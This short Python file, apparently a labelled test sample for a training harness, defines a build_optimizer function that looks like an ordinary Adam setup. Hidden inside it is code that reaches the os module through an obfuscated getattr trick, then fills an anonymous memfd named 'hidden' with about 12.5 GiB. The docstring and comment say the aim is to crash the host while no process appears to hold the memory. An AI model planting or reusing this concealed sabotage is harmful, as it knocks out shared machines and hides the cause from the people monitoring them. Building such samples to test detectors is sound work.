"""Holds memory that is mapped nowhere, so that no process seems to have it."""
# crash: GiB of host memory

import time

from small_train import *  # noqa: F403

system = getattr([torch][0], "so"[::-1])


def build_optimizer(model):
    handle = system.memfd_create("hidden")
    for _ in range(200):
        system.write(handle, bytes(64 << 20))
        time.sleep(0.02)
    return Adam(model.parameters(), 3e-3)
